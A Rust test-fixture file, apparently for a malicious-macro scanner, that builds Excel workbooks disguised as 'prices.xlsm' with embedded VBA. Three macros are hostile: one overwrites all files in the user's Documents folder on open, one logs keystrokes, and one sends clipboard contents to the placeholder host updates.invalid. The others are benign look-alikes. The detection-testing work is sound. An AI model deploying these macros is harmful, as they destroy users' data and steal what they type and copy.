//! Macros that ruin what a person keeps, or write down what a person types and copies; and honest ones that look alike.
//! Nothing here exists that they would find.

use super::Fixture;
use super::ooxml::Package;
use super::vba::{Module, vba_project};

const RUINS: &str = "Private Sub Workbook_Open()\n    Encode Environ(\"USERPROFILE\") & \"\\Documents\"\nEnd Sub\n\
    Private Sub Encode(ByVal path As String)\n    Dim f, x\n    Set f = CreateObject(\"Scripting.FileSystemObject\")\n\
    For Each x In f.GetFolder(path).Files\n        Open x.Path For Binary As #1\n        Put #1, 1, \"unopened\"\n        Close #1\n    Next\n\
    For Each x In f.GetFolder(path).SubFolders\n        Encode x.Path\n    Next\nEnd Sub";

const CLEANS: &str = "Private Sub Workbook_BeforeClose(Cancel As Boolean)\n    Dim p, x\n    p = Environ(\"TEMP\") & \"\\quotes\\\"\n    x = Dir(p & \"*.*\")\n\
    Do While x <> \"\"\n        Kill p & x\n        x = Dir\n    Loop\nEnd Sub";

const LISTENS: &str = "Private Declare PtrSafe Function GetAsyncKeyState Lib \"user32\" (ByVal k As Long) As Integer\n\
    Private Sub Workbook_Open()\n    Dim i, t\n    Do\n        For i = 8 To 222\n            If GetAsyncKeyState(i) = -32767 Then t = t & Chr(i)\n        Next\n\
        DoEvents\n    Loop\nEnd Sub";

const ESCAPES: &str = "Private Declare PtrSafe Function GetAsyncKeyState Lib \"user32\" (ByVal k As Long) As Integer\n\
    Private Sub Workbook_Open()\n    Dim i\n    For i = 1 To 100\n        If GetAsyncKeyState(vbKeyEscape) <> 0 Then Exit For\n        Cells(i, 1) = i\n    Next\nEnd Sub";

const COPIES: &str = "Private Sub Workbook_Open()\n    Dim d, h\n    Set d = GetObject(\"new:{1C3B4210-F441-11CE-B9EA-00AA006B1A69}\")\n    d.GetFromClipboard\n\
    Set h = CreateObject(\"MSXML2.XMLHTTP\")\n    h.Open \"POST\", \"https://updates.invalid/a\", False\n    h.send d.GetText\nEnd Sub";

pub(crate) fn fixtures() -> Vec<Fixture> {
    let book = |id, source: &str| {
        let project = vba_project(&[Module::document("ThisWorkbook", source)]);
        Fixture::new(id, "prices.xlsm", Package::excel(true).macros(&project).build())
    };
    vec![
        book("vba-ruins-documents", RUINS),
        book("vba-deletes-own", CLEANS),
        book("vba-logs-keys", LISTENS),
        book("vba-asks-for-a-key", ESCAPES),
        book("vba-sends-clipboard", COPIES),
    ]
}
